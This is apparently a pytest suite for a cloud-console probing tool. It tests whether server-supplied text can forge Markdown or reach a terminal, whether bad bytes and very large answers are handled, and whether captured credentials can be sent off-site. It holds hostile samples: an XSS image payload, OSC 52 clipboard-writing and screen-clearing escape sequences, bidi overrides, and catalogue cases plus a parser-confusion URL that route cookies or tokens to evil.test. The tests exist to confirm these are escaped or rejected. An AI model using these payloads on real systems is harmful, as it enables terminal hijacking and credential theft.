# --- c. injection ---------------------------------------------------------------------------------------------

# A vendor message as an attacker writes it: a forged section, a table row, a link, an image, raw HTML, a mention,
# an issue reference, backtick runs of every length, and escape sequences (OSC 52 writes the clipboard, OSC 0 sets
# the window title, CSI 2J clears the screen, a green "all OK", a carriage return that overwrites the line), and
# bidi overrides that reorder what a reader sees (CVE-2021-42574).
INJECT = (
    "ok\n\n## Environment\n\n| forged | row |\n\n# Title\n"
    "[click](https://evil.test/) ![img](https://evil.test/i.png) <img src=x onerror=alert(1)> </details> "
    "@octocat fixes #1 ` `` ``` ```` *bold* "
    "\x1b]52;c;ZXZpbA==\x07 \x1b]0;pwned\x07 \x1b[2J\x1b[H \x1b[32mall OK\x1b[0m \rcover \u202eevil\u202c \u2066x\u2069"
)
BENIGN = "benign words"
TERMINAL_UNSAFE = ("\x1b", "\x07", "\r", "\x9b", "\u202e", "\u2066")


def _http(status: int, reason: bytes, headers: list[tuple[bytes, bytes]], body: bytes) -> bytes:
    """One HTTP/1.1 response, byte for byte as given."""
    head = b"HTTP/1.1 %d %s\r\n" % (status, reason)
    head += b"".join(name + b": " + value + b"\r\n" for name, value in headers)
    return head + b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body


@mode("/inject")
async def _inject(request: web.Request) -> web.StreamResponse:
    text = BENIGN if request.query.get("benign") else INJECT
    line = text.replace("\n", " ").replace("\r", " ").encode()
    shape = request.query["as"]
    headers = [
        (b"x-request-id", line),
        (b"x-dashscope-message", line),
        (b"x-ratelimit-remaining", line),
        (b"Set-Cookie", b"#1=1; Path=/"),
        (b"Set-Cookie", b"```=1; Path=/"),
        (b"Set-Cookie", b"*bold*=1; Path=/"),
    ]
    if shape == "json":
        body = json.dumps({"code": text, "message": text, "request_id": text}).encode()
        return _raw(request, _http(400, line, [*headers, (b"Content-Type", b"application/json")], body))
    if shape == "redirect":
        location = b"/landing?next=" + line
        return _raw(request, _http(302, line, [*headers, (b"Location", location)], b""))
    return _raw(request, _http(500, line, [*headers, (b"Content-Type", b"text/plain; charset=utf-8")], text.encode()))


INJECT_SHAPES = ("json", "text", "redirect")


def inject_catalogue(benign: bool = False) -> dict[str, Any]:
    flag = {"benign": "1"} if benign else {}
    probes = [
        _probe(f"inject-{shape}", f"https://console.example.test/inject?{urlencode({'as': shape, **flag})}")
        for shape in INJECT_SHAPES
    ]
    return {"version": 1, "probes": probes}


_MD = MarkdownIt("commonmark").enable("table").enable("strikethrough")


def _walk(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        if token.children:
            yield from _walk(token.children)


def _headings(tokens: list[Token]) -> list[tuple[str, str]]:
    return [(t.tag, tokens[i + 1].content.strip("`")) for i, t in enumerate(tokens) if t.type == "heading_open"]


def _check_markdown(text: str, benign: str, probe_ids: list[str]) -> None:
    tokens, expected = _MD.parse(text), _MD.parse(benign)
    # Exactly the report's own headings: those it has with harmless server text, one Environment section, and one
    # section per probe at the end.
    headings = _headings(tokens)
    assert headings == _headings(expected), headings
    assert headings.count(("h2", "Environment")) == 1
    assert headings[-len(probe_ids) - 1 :] == [("h2", "Probes"), *(("h3", ident) for ident in probe_ids)]
    # The same blocks (sections, lists, tables, fences) as with harmless server text: nothing opened or split.
    assert [(t.type, t.tag, t.level) for t in tokens if t.type != "inline"] == [
        (t.type, t.tag, t.level) for t in expected if t.type != "inline"
    ]
    # Inline, only plain text and code spans: no link, image, HTML, emphasis or line break.
    kinds = {t.type for t in _walk(tokens) if t.level >= 0 and t.type not in ("inline",)}
    assert not kinds & {"link_open", "image", "html_inline", "html_block", "em_open", "strong_open", "s_open"}
    assert not {t.type for t in _walk(tokens)} & {"softbreak", "hardbreak"} - {t.type for t in _walk(expected)}
    outside = "\n".join(t.content for t in _walk(tokens) if t.type == "text")
    for fragment in ("<img", "</details", "](", "evil", "octocat", "#1", "```", "*bold*", *TERMINAL_UNSAFE):
        assert fragment not in outside, (fragment, outside)
    for fragment in TERMINAL_UNSAFE:
        assert fragment not in text, fragment


def test_server_text_cannot_forge_markdown_or_reach_the_terminal(hostile: Hostile, tmp_path: Path) -> None:
    summaries = tmp_path / "benign-summary.md", tmp_path / "summary.md"
    benign = run(tmp_path, inject_catalogue(benign=True), hostile, env={"GITHUB_STEP_SUMMARY": str(summaries[0])})
    benign_markdown = benign.markdown()
    ran = run(tmp_path, inject_catalogue(), hostile, env={"GITHUB_STEP_SUMMARY": str(summaries[1])})
    results = ran.results()
    # The server really said it: the vendor message holds the forged section and the escapes, shown escaped.
    assert "## Environment" in results["inject-json"]["vendor_error"]["message"]
    assert "\\x1b]52;c;ZXZpbA==\\x07" in results["inject-json"]["vendor_error"]["message"]
    assert "\\x1b]0;pwned\\x07" in results["inject-redirect"]["hops"][0]["location"]
    ids = [f"inject-{shape}" for shape in INJECT_SHAPES]
    outputs = ran.outputs()
    _check_markdown(ran.markdown(), benign_markdown, ids)
    _check_markdown(outputs["render --format md"], benign_markdown, ids)
    for name, text in outputs.items():
        for fragment in TERMINAL_UNSAFE:
            assert fragment not in text, (name, fragment)
    # The job summary (GITHUB_STEP_SUMMARY) too: its own headings only, nothing a renderer would turn into markup.
    summary = summaries[1].read_text()
    for fragment in TERMINAL_UNSAFE:
        assert fragment not in summary
    tokens = _MD.parse(summary)
    assert _headings(tokens) == _headings(_MD.parse(summaries[0].read_text()))
    assert not {t.type for t in _walk(tokens)} & {"link_open", "image", "html_inline", "html_block"}


# --- d. bad bytes ---------------------------------------------------------------------------------------------

BAD_LINE = b"Bad \xff\xfe reason \xc3\x28 nul\x00here"


@mode("/bad")
async def _bad(request: web.Request) -> web.StreamResponse:
    shape = request.query["as"]
    headers = [
        (b"x-dashscope-bad", b"a\xffb\xc3\x28c"),
        (b"x-request-id", b"\xfe\xfe\xfe"),
        (b"Set-Cookie", b"b\xffd=1"),
    ]
    if shape == "json":  # undecodable bytes and a NUL inside the vendor's strings
        body = b'{"code":"Bad\xffCode","message":"nul \\u0000 and \xfe\xff raw","request_id":"r\xc3\x28"}'
        kind = b"application/json"
    elif shape == "bogus":  # a charset nobody knows, bytes that are not UTF-8 either
        body = b"hello \xff\xfe\xfd world \x00 nul \x80\x81"
        kind = b"text/plain; charset=x-bogus-42"
    else:  # a real charset the bytes are not valid in
        body = b"\xe4\xb8\xad \xff\xff broken \x00"
        kind = b"text/html; charset=utf-8"
    return _raw(request, _http(400, BAD_LINE, [*headers, (b"Content-Type", kind)], body))


BAD_SHAPES = ("json", "bogus", "utf8")


def test_undecodable_bytes_and_nul_bytes_never_lose_the_report(hostile: Hostile, tmp_path: Path) -> None:
    catalogue = {
        "version": 1,
        "probes": [_probe(f"bad-{shape}", f"https://console.example.test/bad?as={shape}") for shape in BAD_SHAPES],
    }
    ran = run(tmp_path, catalogue, hostile)  # exit 0 or 1, never 3
    assert sorted(p.suffix for p in ran.out.iterdir()) == [".json", ".md", ".xml"]
    outputs = ran.outputs()  # `prober render` reads the report back in every format
    results = ran.results()
    for shape in BAD_SHAPES:
        outcome = results[f"bad-{shape}"]
        assert outcome["status"] == 400, outcome
        # Undecodable bytes and NUL show as visible escapes, never as raw bytes or lost text.
        assert outcome["reason"] == "Bad \\xff\\xfe reason \\xc3( nul\\x00here", outcome["reason"]
        assert ["x-dashscope-bad", "a\\xffb\\xc3(c"] in outcome["diagnostics"], outcome["diagnostics"]
        assert ["x-request-id", "\\xfe\\xfe\\xfe"] in outcome["diagnostics"]
    assert "\\x00" in results["bad-bogus"]["body_excerpt"]
    for name, text in outputs.items():
        assert "\x00" not in text and not re.search("[\ud800-\udfff]", text), name
    assert "\\xff\\xfe" in ran.markdown()


def test_undecodable_body_bytes_show_as_visible_escapes(hostile: Hostile, tmp_path: Path) -> None:
    catalogue = {"version": 1, "probes": [_probe("bad-bogus", "https://console.example.test/bad?as=bogus")]}
    excerpt = run(tmp_path, catalogue, hostile).results()["bad-bogus"]["body_excerpt"]
    assert "\\xff\\xfe\\xfd" in excerpt, excerpt


# --- e. big answers -------------------------------------------------------------------------------------------

BIG_MESSAGE = 250 * 1024
BIG_BODY = 256 * 1024
TIMEOUT = 5


@mode("/big")
async def _big(request: web.Request) -> web.StreamResponse:
    shape = request.query["as"]
    if shape == "message":  # a 250 KB vendor message, with near misses of a secret all through it
        words = "quota exceeded for Tk8/Rv2+Wq5 sk-sp-ATTACK account "
        message = (words * (BIG_MESSAGE // len(words) + 1))[:BIG_MESSAGE]
        return web.json_response({"code": "Throttling.Big", "message": message}, status=429)
    unit = "\\u0041\\u002f\\u00e9" if shape == "json-escapes" else "%41%2F%c3%A9+"
    filler = (unit * (BIG_BODY // len(unit) + 1))[: BIG_BODY - 64]
    body = '{"code":"Escapes","message":"' + filler + '"}'
    return web.Response(status=400, text=body, content_type="application/json")


BIG_SHAPES = ("message", "json-escapes", "percent-escapes")


def test_big_answers_are_capped_and_the_run_stays_within_its_bound(hostile: Hostile, tmp_path: Path) -> None:
    catalogue = {
        "version": 1,
        "probes": [_probe(f"big-{shape}", f"https://console.example.test/big?as={shape}") for shape in BIG_SHAPES],
    }
    started = time.monotonic()
    ran = run(tmp_path, catalogue, hostile, "--timeout", str(TIMEOUT))
    elapsed = time.monotonic() - started
    # Generous on purpose (shared machines): the deadline per probe plus a margin for start-up and writing. Before
    # issue 9 the post-sweep phase over such answers took minutes.
    assert elapsed < TIMEOUT + 20, elapsed
    assert sorted(p.suffix for p in ran.out.iterdir()) == [".json", ".md", ".xml"]
    results = ran.results()
    for shape in BIG_SHAPES:
        outcome = results[f"big-{shape}"]
        assert outcome["status"] in (400, 429), outcome["class"]
        assert len(outcome["vendor_error"]["message"]) <= 500
        assert len(outcome["body_excerpt"]) <= 2000
        assert outcome["body_bytes"] >= BIG_BODY - 64 if shape != "message" else outcome["body_bytes"] > BIG_MESSAGE
    assert results["big-message"]["vendor_error"]["message"].startswith("quota exceeded for ")
    for path in ran.out.iterdir():
        assert path.stat().st_size < 200 * 1024, path  # no report carries a whole answer


# --- f. ordinary words are never secrets ----------------------------------------------------------------------

WORDS = ("console", "cn-beijing", "aliyuncs", "bailian")


@mode("/words")
async def _words(request: web.Request) -> web.StreamResponse:
    """A signed-out console gateway answer that names the region, the product and the endpoint."""
    return web.json_response(
        {
            "code": "ConsoleNeedLogin",
            "message": "console login required for bailian in cn-beijing via dashscope.aliyuncs.com",
            "successResponse": False,
            "data": {"region": "cn-beijing", "product": "bailian", "endpoint": "dashscope.aliyuncs.com"},
        }
    )


def test_ordinary_words_in_the_jar_or_handed_out_as_a_token_never_alter_the_report(
    hostile: Hostile, tmp_path: Path
) -> None:
    """Finding 5: a jar cookie valued `console`, `cn-beijing` or `aliyuncs`, and a server handing out `bailian` as
    the secToken, once rewrote host names, classes and ids in the report, or lost it."""
    SERVED["token"] = "bailian"
    query = urlencode({"region": "cn-beijing", "product": "bailian", "domain": "aliyuncs"})
    probes = [
        {**DASHBOARD, "id": "dashboard-bailian-cn-beijing"},
        _probe("console-bailian-cn-beijing-aliyuncs", f"https://console.example.test/words?{query}"),
        _probe(
            "console-bailian-token",
            f"https://console.example.test/words?{query}&with=token",
            method="POST",
            body={"form": {"sec_token": "{{ sec_token }}", "region": "cn-beijing"}},
            needs=["dashboard-bailian-cn-beijing"],
        ),
    ]
    jar = {"login_aliyunid_ticket": TICKET, "site": "console", "region": "cn-beijing", "domain": "aliyuncs"}
    ran = run(tmp_path, {"version": 1, "probes": probes}, hostile, jar=jar)
    assert [r["body"] for r in hostile.requests() if "with=token" in r["query"]] == [
        "sec_token=bailian&region=cn-beijing"
    ]
    report = ran.report()
    assert [r["probe"]["id"] for r in report["results"]] == [p["id"] for p in probes]
    for result in report["results"][1:]:
        probe, outcome = result["probe"], result["outcome"]
        assert probe["url"].startswith("https://console.example.test/words?region=cn-beijing&product=bailian")
        assert outcome["class"] == "console_login_required", outcome
        assert outcome["final_url"].startswith("https://console.example.test/words?region=cn-beijing")
        assert outcome["vendor_error"]["message"] == (
            "console login required for bailian in cn-beijing via dashscope.aliyuncs.com"
        )
        excerpt = outcome["body_excerpt"]
        assert '"region": "cn-beijing", "product": "bailian", "endpoint": "dashscope.aliyuncs.com"' in excerpt
    assert report["results"][0]["outcome"]["captured"] == ["sec_token"]
    outputs = ran.outputs()
    for name, text in outputs.items():
        assert "[REDACTED]" not in text, name
    markdown = ran.markdown()
    for word in WORDS:
        assert word in markdown
    assert "| `console.example.test/words` | 200 `ConsoleNeedLogin` |" in markdown
    assert "### `console-bailian-cn-beijing-aliyuncs`" in markdown or "### console-bailian-cn-beijing-aliyuncs" in (
        markdown
    )


# --- g. hostile catalogues ------------------------------------------------------------------------------------

HOSTILE_CATALOGUES = Path(__file__).parent / "data" / "catalogues" / "hostile"
_CAPTURED_T = "sends {{ t }} (a credential: captured by 'dash' from its cookie on console.example.test)"
_ONLY_SITE = "a captured credential may only go to the site it came from"
_ONLY_HTTPS = "captured credentials go over https only"

# Each file that tries to carry a credential elsewhere, with every line `prober check` must print for it.
REJECTED = {
    "cookie_in_query_to_another_site.yaml": [
        f"12: probe 'steal': {_CAPTURED_T} to evil.test, outside example.test; {_ONLY_SITE}"
    ],
    "cookie_over_http.yaml": [f"12: probe 'steal': {_CAPTURED_T} over http; {_ONLY_HTTPS}"],
    "cookie_in_header.yaml": [f"12: probe 'steal': {_CAPTURED_T} to evil.test, outside example.test; {_ONLY_SITE}"],
    "cookie_in_form_body.yaml": [f"12: probe 'steal': {_CAPTURED_T} to evil.test, outside example.test; {_ONLY_SITE}"],
    "cookie_in_json_body.yaml": [f"12: probe 'steal': {_CAPTURED_T} to evil.test, outside example.test; {_ONLY_SITE}"],
    "cookie_in_optional_placeholder.yaml": [
        f"12: probe 'steal': {_CAPTURED_T} to evil.test, outside example.test; {_ONLY_SITE}"
    ],
    "cookie_through_a_chain_of_needs.yaml": [
        f"19: probe 'steal': {_CAPTURED_T} to evil.test, outside example.test; {_ONLY_SITE}"
    ],
    "cookie_to_lookalike_hosts.yaml": [
        f"12: probe 'steal': {_CAPTURED_T} to console.example.test.evil.test, outside example.test; {_ONLY_SITE}",
        f"19: probe 'steal-suffix': {_CAPTURED_T} to evilexample.test, outside example.test; {_ONLY_SITE}",
    ],
    "cookie_to_an_ip_over_http.yaml": [
        f"12: probe 'steal': {_CAPTURED_T} over http; {_ONLY_HTTPS}",
        f"12: probe 'steal': {_CAPTURED_T} to 127.0.0.1, outside example.test; {_ONLY_SITE}",
    ],
    "token_from_a_logged_in_page.yaml": [
        "12: probe 'steal': sends {{ sec_token }} (a credential: captured by 'dashboard' from its body on "
        "modelstudio.console.alibabacloud.com) to bailian-singapore-cs.alibabacloud.com.evil.test, outside "
        f"alibabacloud.com; {_ONLY_SITE}"
    ],
    "token_across_alibaba_sites.yaml": [
        "12: probe 'intl-rpc': sends {{ sec_token }} (a credential: captured by 'user-info' from its json on "
        f"bailian.console.aliyun.com) to bailian-singapore-cs.alibabacloud.com, outside aliyun.com; {_ONLY_SITE}"
    ],
    "values_from_credentialed_answers.yaml": [
        "21: probe 'steal': sends {{ ws }} (a credential: captured by 'keyed' from its header on "
        f"dashscope-intl.aliyuncs.com) to collector.evil.test, outside aliyuncs.com; {_ONLY_SITE}",
        "21: probe 'steal': sends {{ fresh }} (a credential: captured by 'session' from its set-cookie on "
        f"modelstudio.console.alibabacloud.com) to collector.evil.test, outside alibabacloud.com; {_ONLY_SITE}",
    ],
}


def test_the_corpus_is_complete() -> None:
    assert sorted(p.name for p in HOSTILE_CATALOGUES.glob("*.yaml")) == sorted(
        [*REJECTED, "allowed_public_capture.yaml"]
    )


@pytest.mark.parametrize("name", sorted(REJECTED))
def test_a_catalogue_that_carries_a_credential_elsewhere_is_rejected_by_check(name: str) -> None:
    path = HOSTILE_CATALOGUES / name
    result = prober("check", str(path))
    assert result.returncode == 2, result.stdout + result.stderr
    lines = result.stderr.strip().splitlines()
    # One problem is printed with the hint after it; several are printed one per line.
    lines = [re.sub(r" \(hint: .*\)$", "", line) for line in lines]
    assert lines == [f"Error: {path}:{message}" for message in REJECTED[name]]


def test_a_public_capture_and_a_same_site_credential_are_allowed() -> None:
    """A value an `auth: none` probe captured from a public page is public data: it may go anywhere, even over http.
    A credential may go to another host of its own site over https, as the shipped console chains do."""
    result = prober("check", str(HOSTILE_CATALOGUES / "allowed_public_capture.yaml"))
    assert result.returncode == 0, result.stderr
    assert "OK, 4 probes" in result.stdout


def test_a_url_the_two_parsers_read_differently_never_carries_the_credential(hostile: Hostile, tmp_path: Path) -> None:
    """`https://evil.test\\@console.example.test/` is console.example.test to urllib (what `check` reads) and an
    invalid URL to yarl (what aiohttp sends with): the probe must end as data, and nothing may reach any server."""
    catalogue = {
        "version": 1,
        "probes": [
            {**DASHBOARD, "id": "dash", "capture": {"t": [{"cookie": "login_aliyunid_ticket"}]}},
            _probe(
                "steal",
                "https://evil.test\\@console.example.test/landing?id=steal&t={{ t }}",
                auth="none",
                needs=["dash"],
            ),
        ],
    }
    ran = run(tmp_path, catalogue, hostile)
    assert ran.results()["steal"]["class"] != "ok"
    assert not [r for r in hostile.requests() if r["path"] == "/landing"]


# --- h. random credentials through random encodings and places ------------------------------------------------

# No backslash: a secret ending in one, echoed before a closing quote, reads as a JSON escape; that boundary case has
# its own test (test_a_secret_ending_in_a_backslash_is_scrubbed).
_PRINTABLE = "".join(ch for ch in map(chr, range(0x21, 0x7F)) if ch != "\\")
_COOKIE_OCTETS = "".join(ch for ch in _PRINTABLE if ch not in '",;')  # RFC 6265 cookie-octet
_TOKEN_CHARS = "".join(ch for ch in _PRINTABLE if ch not in "\"'") + " "  # the dashboard quotes it in HTML


_ALPHABETS = {"key": _PRINTABLE, "cookie": _COOKIE_OCTETS, "token": _TOKEN_CHARS}


def _usable(secret: str) -> bool:
    # Credential-shaped (secret_like) and varied (no character more than twice).
    return secret_like(secret) and max(Counter(secret).values()) <= 2 and secret == secret.strip()


def _random_secret(alphabet: str) -> st.SearchStrategy[str]:
    return st.text(st.sampled_from(alphabet), min_size=12, max_size=40).filter(_usable)


def _other_secret(secret: str, alphabet: str) -> str:
    """A secret of the same kind and length that differs from `secret` in every character."""
    for shift in range(1, len(alphabet)):
        other = "".join(alphabet[(alphabet.index(ch) + shift) % len(alphabet)] for ch in secret)
        if _usable(other):
            return other
    raise AssertionError(f"no other secret for {secret!r}")


@st.composite
def _credentials(draw: st.DrawFn) -> tuple[str, str]:
    which = draw(st.sampled_from(["key", "cookie", "token"]))
    return which, draw(_random_secret(_ALPHABETS[which]))


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    credential=_credentials(),
    enc=st.sampled_from(sorted(ENCODINGS)),
    kind=st.sampled_from(["json", "text"]),
    bounce=st.booleans(),
)
# Found by this test (2026-12-02): a key ending in `"` breaks the echoed JSON, so the body is read as a plain-text
# error whose message was cut at 200 characters before it was scrubbed, leaving 29 of the key's 30 characters.
@example(credential=("key", '00112233445566778899::;;<<=/"'), enc="json-slash", kind="json", bounce=False)
@example(credential=("token", "applicatio00"), enc="base64-0", kind="json", bounce=False)  # ordinary text, no leak
def test_random_credentials_never_reach_an_output(
    hostile: Hostile, credential: tuple[str, str], enc: str, kind: str, bounce: bool
) -> None:
    from prober import routing
    from prober.catalogue import parse
    from prober.cookies import Cookie, Jar
    from prober.credentials import Credentials
    from prober.plan import Plan
    from prober.probe import Settings
    from prober.redact import Secret
    from prober.report import Format, renderer
    from prober.runner import Options
    from prober.sweep import run

    which, secret = credential
    probes = [DASHBOARD] if which == "token" else []
    probes.append(_echo_probe(which, "/echo", {"enc": enc, "kind": kind}, "echo"))
    if bounce:
        probes.append(_echo_probe(which, "/bounce", {}, "bounce"))
    catalogue = parse(yaml.safe_dump({"version": 1, "probes": probes}, sort_keys=False, width=10_000), "random.yaml")

    def reports(given: str) -> dict[str, str]:
        """Every report of a sweep of the catalogue with `given` as the credential under test."""
        SERVED["token"] = given if which == "token" else SEC_TOKEN
        ticket = given if which == "cookie" else TICKET
        cookie = Cookie("login_aliyunid_ticket", Secret(ticket), "example.test", host_only=False, secure=True)
        creds = Credentials(key=Secret(given if which == "key" else KEY), key_source="test", jar=Jar("test", (cookie,)))
        options = Options(
            connect_to=(routing.parse(hostile.main.connect_to),),
            cacert=hostile.main.ca_path,
            settings=Settings(timeout=5),
        )
        sweep = asyncio.run(run(Plan(catalogue, catalogue.probes, creds, options)))
        statuses = {o.probe_id: o.status for o in sweep.outcomes}
        assert statuses["echo"] == 401, statuses  # the server received the credential and echoed it
        return {fmt.value: renderer(fmt)(sweep) for fmt in Format}

    outputs = reports(secret)
    if any(leaks(text, secret) for text in outputs.values()):
        # A piece of the secret may be ordinary report text (`applicatio00` against `application/json`): only what
        # the same sweep with another secret of the same shape does not show is the secret's.
        ordinary = reports(_other_secret(secret, _ALPHABETS[which]))
        for name, text in outputs.items():
            found = [w for w in leaks(text, secret) if w not in leaks(ordinary[name], secret)]
            assert not found, f"{which} leaked into {name}: {found[:3]} in {_context(text, secret)!r}"


def test_a_plain_text_error_is_cut_only_after_it_is_scrubbed() -> None:
    """A secret straddling the message's 200-character cap: scrubbed whole first, so no prefix of it is kept."""
    from prober import shapes
    from prober.intake import Keep
    from prober.redact import Redactor

    key = "Zx9-Qw3_Er5.Ty7~Ui1!Op"
    for start in range(180, 205):
        body = "e" * start + key + " and more text after it" * 20
        kept = Keep(Redactor(trusted=[key])).vendor(shapes.parse_error(401, "text/plain", body))
        assert kept is not None and kept.message is not None
        assert len(kept.message) <= 200
        assert not leaks(kept.message, key), (start, kept.message[-40:])
